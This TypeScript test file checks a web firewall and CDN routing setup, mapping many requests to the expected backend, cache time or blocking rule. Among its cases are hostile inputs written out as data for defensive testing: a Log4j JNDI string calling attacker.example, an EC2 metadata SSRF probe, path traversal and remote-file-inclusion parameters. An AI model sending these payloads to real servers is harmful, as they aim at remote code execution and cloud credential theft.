import { production as templates } from './platform-fixtures';
import { FirewallRequest, firewall } from '../../tools/requests/firewall';
import { route } from '../../tools/requests/route';

const HTML = { Accept: 'text/html,application/xhtml+xml,*/*;q=0.8' };
const JAPANESE = '%E6%97%A5';
const preflight = { 'Origin': 'https://partner.example', 'Access-Control-Request-Method': 'GET', 'Access-Control-Request-Headers': 'x-trace' };
const get = (uri: string, headers: Record<string, string> = {}): FirewallRequest => ({ uri, headers });
const send = (method: string, uri: string, bodySize: number, headers = {}): FirewallRequest => ({ method, uri, bodySize, headers });

/** The rule that decides; or who answers, and for how long CloudFront keeps the answer of a backend that sends no `Cache-Control`. */
function outcome({ uri = '/', method, headers = {}, ...request }: FirewallRequest): string {
  const { action, rule } = firewall(templates, { uri, method, headers, ...request });
  if (action !== 'ALLOW') return `${action} ${rule.replace(/AWSManagedRules(\w+)\//, '')}`;
  const { status, origin, ttl = 0 } = route(templates, { url: `https://eldonia.example${uri}`, method, headers: Object.keys(headers) });
  return status === undefined ? `${origin}${ttl > 0 ? ` ${ttl / 3_600} h` : ''}` : String(status);
}

test.each<[string, FirewallRequest, string]>([
  ['a page', get('/', HTML), 'load balancer'],
  ['a page in Japanese', get(`/${JAPANESE.repeat(20)}`, HTML), 'load balancer'],
  ['a page with the parameters of a campaign', get('/?utm_source=a&utm_medium=b&gclid=abc', HTML), 'load balancer'],
  ['a script', get('/app.js'), 'load balancer 168 h'],
  ['a script with a hash', get('/static/app.1a2b3c4d5e.js'), 'load balancer 168 h'],
  ['a module', get('/app.mjs'), 'load balancer 168 h'],
  ['a style sheet', get('/app.css?v=2'), 'load balancer 168 h'],
  ['a font', get('/font.woff2', { Origin: 'https://eldonia.example' }), 'load balancer 168 h'],
  ['an icon of the site', get('/favicon.ico'), 'load balancer 24 h'],
  ['an image', get('/a.png'), 'load balancer 24 h'],
  ['a part of an image', get('/a.png', { Range: 'bytes=0-99' }), 'load balancer 24 h'],
  ['an image that the browser has', get('/a.png', { 'If-None-Match': '"1"' }), 'load balancer 24 h'],
  ['a video', get('/a.mp4', { Range: 'bytes=0-' }), 'load balancer'],
  ['a document', get('/terms.pdf'), 'load balancer'],
  ['the manifest of an app', get('/manifest.webmanifest'), 'load balancer'],
  ['a service worker', get('/sw.js', { 'Service-Worker': 'script' }), 'load balancer 168 h'],
  ['robots.txt', get('/robots.txt'), 'load balancer'],
  ['a site map', get('/sitemap.xml'), 'load balancer'],
  ['the links of an app', get('/.well-known/apple-app-site-association'), 'load balancer'],
  ['a challenge of ACME', get('/.well-known/acme-challenge/abc'), 'load balancer'],
  ['a picture of a user', get('/media/alice/photo.jpg/large.webp'), 'bucket 24 h'],
  ['a picture that is missing', get('/media/none'), 'bucket 24 h'],
  ['an original, which is private', get('/originals/alice/photo.jpg'), 'load balancer 24 h'],

  ['a call of the API', get('/api/products?page=2', { Authorization: 'Bearer abc' }), 'load balancer'],
  ['a call with a session', get('/api/me', { Cookie: '__Host-session=abc' }), 'load balancer'],
  ['a call from another site', get('/api/products', { Origin: 'https://partner.example' }), 'load balancer'],
  ['a preflight request of the API', { method: 'OPTIONS', uri: '/api/products', headers: preflight }, 'load balancer'],
  ['an order', send('POST', '/api/orders', 5_000), 'load balancer'],
  ['an order in Japanese, of 4,000 characters', send('POST', '/api/orders', 12_000), 'load balancer'],
  ['a change', send('PATCH', '/api/me', 100), 'load balancer'],
  ['a query of GraphQL in the address', get(`/graphql?query=${'a'.repeat(2_100)}`), 'BLOCK SizeRestrictions_QUERYSTRING'],
  ['a search of 227 characters', get(`/search?q=${JAPANESE.repeat(227)}`, HTML), 'load balancer'],
  ['a search of 228 characters', get(`/search?q=${JAPANESE.repeat(228)}`, HTML), 'BLOCK SizeRestrictions_QUERYSTRING'],
  ['a title of 114 characters in the path', get(`/${JAPANESE.repeat(114)}`, HTML), 'BLOCK SizeRestrictions_URIPATH'],
  ['a callback of a login service', get(`/callback?code=${'a'.repeat(1_500)}&state=b`, HTML), 'load balancer'],
  ['a token of 6,000 bytes', get('/api/me', { Authorization: `Bearer ${'a'.repeat(6_000)}` }), 'load balancer'],
  ['a token of 9,000 bytes', get('/api/me', { Authorization: `Bearer ${'a'.repeat(9_000)}` }), 'BLOCK LargeHeaders'],
  ['many cookies', get('/', { ...HTML, Cookie: 'a'.repeat(8_200) }), 'BLOCK LargeHeaders'],
  ['a redirect with an address that has a number', get('/go?to=http://203.0.113.7/a', HTML), 'BLOCK GenericRFI_QUERYARGUMENTS'],
  ['a redirect with an address that has a name', get('/go?to=https://partner.example/a', HTML), 'load balancer'],
  ['a relative path in a parameter', get('/go?to=../../a', HTML), 'BLOCK GenericLFI_QUERYARGUMENTS'],

  ['a browser by IPv6', { ...get('/', HTML), ip: '2001:db8::1' }, 'load balancer'],
  ['a native app', get('/api/products', { 'Accept': 'application/json', 'User-Agent': 'Shop/1.0 CFNetwork' }), 'load balancer'],
  ['a partner with curl', get('/api/products', { 'User-Agent': 'curl/8.9.0' }), 'load balancer'],
  ['a partner without User-Agent', get('/api/products', { 'User-Agent': '' }), 'BLOCK NoUserAgent_HEADER'],
  ['Googlebot', get('/products', { ...HTML, 'User-Agent': 'Mozilla/5.0 (compatible; Googlebot/2.1)' }), 'load balancer'],
  ['a monitor that asks for the headers', { method: 'HEAD', uri: '/' }, 'load balancer'],
  ['the probe of the site', get('/ready', { 'User-Agent': 'eldonia-site-probe' }), 'load balancer'],

  ['the 12,000th call of an address', { ...get('/api/products'), rate: 12_000 }, 'load balancer'],

  ['a scanner that looks for logs', get('/debug.log'), 'BLOCK RestrictedExtensions_URIPATH'],
  ['a scanner of Java', get('/WEB-INF/web.xml'), 'BLOCK ExploitablePaths_URIPATH'],
  ['a scanner of Log4j', get('/', { 'User-Agent': '${jndi:ldap://attacker.example/a}' }), 'BLOCK Log4JRCE_HEADER'],
  ['a request for the credentials of a machine', get('/go?to=http://169.254.169.254/latest'), 'BLOCK EC2MetaDataSSRF_QUERYARGUMENTS'],
  ['WebDAV', { method: 'PROPFIND', uri: '/' }, 'BLOCK PROPFIND_METHOD'],
])('%s', (_, request, expected) => expect(outcome(request)).toBe(expected));

test.each(['/a.js', '/a.png'])('a preflight request of %s reaches the backend with all that its answer depends on, which is part of the cache key', (path) => {
  const names = ['host', ...Object.keys(preflight)];

  expect(route(templates, { method: 'OPTIONS', url: `https://eldonia.example${path}`, headers: Object.keys(preflight) })).toMatchObject({ forwarded: names, keyed: names });
});
